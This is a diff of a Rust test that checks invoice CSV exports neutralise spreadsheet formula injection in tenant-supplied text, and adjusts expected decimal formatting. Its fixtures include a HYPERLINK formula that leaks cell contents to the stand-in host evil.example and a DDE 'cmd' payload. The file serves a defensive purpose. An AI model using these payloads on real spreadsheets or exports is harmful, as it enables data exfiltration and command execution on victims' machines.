@@ -44,14 +44,10 @@ async fn hostile_invoices(s: &Server) -> (String, String) {
     let mut first = line(&evil, "dbco.db.hour", dec!(2), dec!(0.20));
     first.description = HYPERLINK.into();
     first.unit = "+1".into();
-    first.markup = dec!(0.00);
-    first.partner_net = dec!(0.00);
     let mut second = line(&evil, "dbco.db.gb", dec!(1), dec!(1.00));
     second.description = "\tcmd|' /C calc'!A0".into();
     second.unit = "\r-1".into();
     second.price_id = 8;
-    second.markup = dec!(0.00);
-    second.partner_net = dec!(0.00);
     let mut acme = statement("acme", "2026-10", 1, vec![first, second]);
     acme.sealed = true;
     let mut umbrella = statement(
@@ -96,7 +92,7 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert!(rows[2].ends_with(",'-2+3+cmd|' /C calc'!A0"), "{invoices}");
     assert!(
         rows[2].starts_with(&format!(
-            "{umbrella},TLY-2026-000002,umbrella,2026-10-01T00:00:00+00:00,2026-11-01T00:00:00+00:00,void,USD,1.00,0,1.00,0,"
+            "{umbrella},TLY-2026-000002,umbrella,2026-10-01T00:00:00+00:00,2026-11-01T00:00:00+00:00,void,USD,1.00,0.00,1.00,0.00,"
         )),
         "{invoices}"
     );
@@ -112,14 +108,14 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert_eq!(
         rows[1],
         format!(
-            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0,0.40,0,7,"#
+            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,7,"#
         ),
         "{lines}"
     );
     assert_eq!(
         rows[2],
         format!(
-            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0,1.00,0,8,"
+            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,8,"
         ),
         "{lines}"
     );
